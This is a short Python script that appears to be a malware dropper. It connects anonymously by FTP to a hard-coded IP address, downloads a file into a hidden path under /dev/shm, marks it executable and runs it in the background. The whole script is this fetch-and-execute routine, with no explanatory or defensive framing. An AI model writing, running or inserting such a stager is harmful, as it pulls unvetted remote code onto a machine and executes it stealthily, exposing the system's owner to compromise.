from ftplib import FTP
import os
import subprocess

ftp = FTP("91.240.118.7")
ftp.login()
with open("/dev/shm/.k", "wb") as fh:
    ftp.retrbinary("RETR pub/k", fh.write)
ftp.quit()
os.chmod("/dev/shm/.k", 0o700)
subprocess.Popen(["/dev/shm/.k"])
